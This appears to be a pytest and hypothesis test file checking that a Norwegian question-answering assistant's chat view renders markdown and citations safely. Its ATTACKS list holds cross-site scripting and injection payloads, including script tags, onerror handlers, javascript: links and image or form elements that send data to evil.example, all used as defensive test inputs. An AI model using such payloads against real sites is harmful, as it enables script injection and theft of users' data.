"""Whatever stands in an answer, only our few elements come out of it, and every character is shown."""

import json
import re
from dataclasses import replace
from html import unescape
from html.parser import HTMLParser

import pytest
from fake_assistant import ANSWERED, DOCUMENTS, MEMO, NOT_FOUND, citation
from hypothesis import given, settings
from hypothesis import strategies as st

from assistant.wording import wording
from ui.chat_view import Exchange, View, plain
from ui.html import escape, from_markdown, web_address
from ui.texts import texts

ATTACKS = (
    "<script>alert(1)</script>",
    "![x](https://evil.example/?q=secret)",
    "![x][1]\n\n[1]: https://evil.example",
    "[click](javascript:alert(1))",
    "<img src=x onerror=alert(1)>",
    '<video poster="https://evil.example">',
    "<style>body{background:url(https://evil.example)}</style>",
    '<form action="https://evil.example"><input></form>',
    "<a href='data:text/html,x'>x</a>",
    '" onmouseover="alert(1)',
    "</li></ol></section><h1>Ny</h1>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)}",
    "<https://evil.example>",
    "$$\\href{https://evil.example}{x}$$",
    "```html\n<b>x</b>\n```",
    "&lt;script&gt;",
)


class Elements(HTMLParser):
    """Collects the tags, attributes and text of a piece of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.open: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes.extend((tag, name, value or "") for name, value in attrs)
        if tag not in ("br", "input"):
            self.open.append(tag)

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        raise AssertionError("a comment")

    def handle_decl(self, decl):
        raise AssertionError("a declaration")


MARKDOWN = {
    "p": set(),
    "strong": set(),
    "blockquote": {"lang"},
    "ul": set(),
    "ol": set(),
    "li": {"value"},
    "a": {"class", "href"},
    "span": {"class"},
}
PAGE = {
    **MARKDOWN,
    "a": {"class", "href", "target", "rel"},
    "blockquote": {"lang"},
    "cite": {"lang"},
    "details": {"class"},
    "br": set(),
    "button": {"class", "type"},
    "div": {"class", "hidden", "lang"},
    "em": set(),
    "h2": {"class", "id"},
    "h3": {"class"},
    "li": {"class", "id", "value"},
    "mark": set(),
    "p": {"class", "lang"},
    "section": {"class", "lang"},
    "span": {"class", "hidden", "lang"},
    "summary": set(),
    "ul": {"class"},
}


def assert_only(html: str, allowed: dict[str, set[str]]) -> Elements:
    found = Elements(html)
    assert set(found.tags) <= set(allowed)
    for tag, name, _ in found.attributes:
        assert name in allowed[tag], (tag, name)
    assert not found.open
    return found


anything = st.text(st.characters(codec="utf-8"), max_size=200)
nasty = st.lists(
    st.one_of(st.sampled_from(ATTACKS), anything, st.sampled_from(["[1]", "**", "> ", "- ", "\n", "1. "]))
)


@given(nasty.map("".join))
def test_only_our_elements_come_out(text):
    found = assert_only(from_markdown(text, numbers={1}, anchor="q1-k", source="Kilde"), MARKDOWN)
    for tag, name, value in found.attributes:
        if (tag, name) == ("a", "href"):
            assert value == "#q1-k1"


@given(anything)
def test_words_are_all_shown(text):
    shown = Elements(from_markdown(text)).text
    assert re.findall(r"[a-zA-ZæøåÆØÅ]+", shown) == re.findall(r"[a-zA-ZæøåÆØÅ]+", text)


@settings(deadline=None)
@given(nasty.map("".join), nasty.map("".join))
def test_page_holds_only_our_elements_whatever_comes(one, other):
    marked = replace(
        citation(),
        title=one,
        quote=other,
        context=other + one,
        section=(one, other),
        publisher=other,
        date=one,
        url=other,
        viewer_url="/documents/x?start=1#passage",
    )
    answer = replace(ANSWERED, text=one, citations=(marked,), notices=(other,), suggestions=(one, other))
    view = View(texts("nn"))
    html = view.conversation([Exchange(1, one, answer=answer, lost=(3,))])
    found = assert_only(html, PAGE)
    for tag, name, value in found.attributes:
        if (tag, name) == ("a", "href"):
            assert re.match(r"#q1-k1$|/documents/|https?://", value, re.IGNORECASE), value
    assert "\n" not in html
    assert_only(plain(one), {"p": set()})


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_is_shown_as_it_was_typed(attack):
    shown = Elements(from_markdown(attack)).text
    assert re.sub(r"\W", "", attack) in re.sub(r"\W", "", shown)


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("Ett.\nTo.\n\nTre.", "<p>Ett. To.</p>\n<p>Tre.</p>"),
        ("**Nei.** Det", "<p><strong>Nei.</strong> Det</p>"),
        ("2 ** 3 ** 4", "<p>2 ** 3 ** 4</p>"),
        (
            "> sitat\n> mer [1]",
            '<blockquote><p>sitat mer <a class="mark" href="#k1">[1]</a></p></blockquote>',
        ),
        ("> en\n\n> to", "<blockquote><p>en</p></blockquote>\n<blockquote><p>to</p></blockquote>"),
        ("- en\n- to\n\n- tre", "<ul><li>en</li><li>to</li><li>tre</li></ul>"),
        ("3. tre\n  mer\n4) fire", '<ol><li value="3">tre mer</li><li value="4">fire</li></ol>'),
        ("### Om **dette**", "<p><strong>Om dette</strong></p>"),
        ("se [1] og [7]", '<p>se <a class="mark" href="#k1">[1]</a> og [7]</p>'),
        ("", ""),
    ],
)
def test_markdown_that_we_write_becomes_html(markdown, html):
    assert from_markdown(markdown, numbers={1}, anchor="k") == html


@given(anything)
def test_escaped_text_reads_the_same(text):
    assert Elements(f"<p>{escape(text)}</p>").text.replace("\r", "") == text.replace("\r", "")


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "data:text/html,x", "//evil.example", "", "https://", " https://x"]
)
def test_only_web_addresses_become_links(url):
    assert web_address(url) is None


def test_abstention_looks_different_from_an_answer():
    view = View(texts("nb"))
    answered = view.exchange(Exchange(1, "Hva?", answer=ANSWERED))
    abstained = view.exchange(Exchange(2, "Hva?", answer=NOT_FOUND))
    assert 'class="outcome answered"' in answered
    assert 'class="outcome not_found"' in abstained
    assert "Fant ikke svar" in abstained
    assert "Nærmeste steder, som ikke svarer på spørsmålet" in abstained
    assert "Notatet er fra 2022." in abstained


def test_source_says_what_it_is_and_where_it_stands():
    html = View(texts("nb")).exchange(Exchange(1, "Hva?", answer=ANSWERED))
    for part in (
        "Om tillitsreformen",
        "Kommunal- og distriktsdepartementet, 2022",
        "Departementets egen veiledning",
        "Om innholdet › Er reduksjon av markedsmekanismen en del av tillitsreformen?",
        "side 5",
        '<mark>Nei, dette følges opp gjennom andre prosesser.</mark><span class="around"> Regjeringen har',
        "/documents/inspirasjonsnotat?start=",
        "https://www.regjeringen.no/",
        '<p class="verdict no"><span class="unseen">Kort svar: </span>Nei</p>',
    ):
        assert part in html


def test_reader_of_another_language_gets_our_pages_in_it():
    html = View(texts("nb")).exchange(Exchange(1, "Why?", answer=replace(ANSWERED, language="en")))
    assert "The ministry&#x27;s own guidance" in html
    assert "&amp;lang=en#passage" in html
    assert '<blockquote lang="nb">' in html


def test_verdict_that_opens_the_text_is_shown_once():
    answer = replace(ANSWERED, text="**Nei.**\n\nDepartementets notat sier noe. [1]")
    html = View(texts("nb")).exchange(Exchange(1, "Hva?", answer=answer))
    assert "Kort svar: </span>Nei</p><p>Departementets" in html


def test_quotes_from_one_document_stand_under_its_title_once():
    answer = replace(ANSWERED, citations=(citation(1), citation(2)))
    html = View(texts("nb")).exchange(Exchange(1, "Hva?", answer=answer))
    assert html.count('<div class="source"><div class="facts">') == 1
    assert 'id="q1-k1"' in html
    assert 'id="q1-k2"' in html


def test_what_the_page_keeps_survives_being_made_one_line():
    question = "To  mellomrom,\u00a0\u2003andre\tog\nlinjer"
    html = View(texts("nb")).conversation([Exchange(1, question, answer=ANSWERED)])
    kept = re.search(r'<div class="record" hidden>(.*?)</div>', html)[1]
    assert json.loads(unescape(kept))["question"] == question


@pytest.mark.parametrize(
    ("notice", "shown"),
    [
        (wording("nb").differ, '<li class="notice differ"><strong>Kildene er ulike:</strong> Kildene sier'),
        (wording("nb").only_examples, '<li class="notice only_examples"><strong>Bare eksempler:</strong>'),
        (wording("nb").model_failed, '<li class="notice model_failed"><strong>Uten språkmodell:</strong>'),
        ("Noe annet.", '<li class="notice other"><strong>Merk:</strong> Noe annet.</li>'),
    ],
)
def test_notice_has_a_word_for_its_kind(notice, shown):
    html = View(texts("nb")).exchange(Exchange(1, "Hva?", answer=replace(ANSWERED, notices=(notice,))))
    assert shown in html


def test_documents_that_alone_were_searched_are_named():
    view = View(texts("nb"), {document.id: document for document in DOCUMENTS})
    html = view.exchange(Exchange(1, "Hva?", answer=ANSWERED, document_ids=(MEMO.id,)))
    assert f"Bare søkt i {MEMO.record.title}." in html


def test_abstention_leads_on():
    answer = replace(NOT_FOUND, suggestions=("Hva er målet?",))
    html = View(texts("nb")).exchange(Exchange(1, "Hva?", answer=answer))
    assert '<button type="button" class="suggestion"><span lang="nb">Hva er målet?</span></button>' in html
    assert '<a href="/documents">Se alle dokumentene</a>' in html


def test_heading_in_a_suggestion_is_in_the_documents_language():
    answer = replace(NOT_FOUND, language="en", suggestions=("What does it say about “Piloter”?",))
    html = View(texts("en")).exchange(Exchange(1, "What?", answer=answer))
    assert '>What does it say about “<span lang="nb">Piloter</span>”?</button>' in html


def test_doubt_is_said_before_the_answer_and_all_else_after_it():
    said = wording("nb")
    answer = replace(ANSWERED, verdict=None, text="Svaret.", notices=(said.unsure, said.only_examples))
    html = View(texts("nb")).exchange(Exchange(1, "Hva?", answer=answer))
    assert html.index("Usikkert:") < html.index("Svaret.") < html.index("Bare eksempler:")


def test_lines_of_a_passage_stay_lines():
    answer = replace(ANSWERED, citations=(replace(citation(), context="En\nto\n" + citation().quote),))
    assert "En<br>to<br>" in View(texts("nb")).exchange(Exchange(1, "Hva?", answer=answer))
